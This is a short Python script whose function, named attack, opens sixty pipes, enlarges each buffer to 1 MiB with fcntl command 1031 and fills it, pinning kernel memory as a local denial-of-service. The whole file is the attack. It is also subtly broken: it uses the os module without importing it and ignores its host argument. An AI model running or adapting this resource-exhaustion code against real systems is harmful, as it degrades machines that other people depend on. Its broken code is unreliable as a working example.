"""Memory of the kernel, in pipes."""

import fcntl


def attack(host):
    for _ in range(60):
        _, end = os.pipe()
        fcntl.fcntl(end, 1031, 2**20)
        os.write(end, bytes(2**20))
    return "filled"
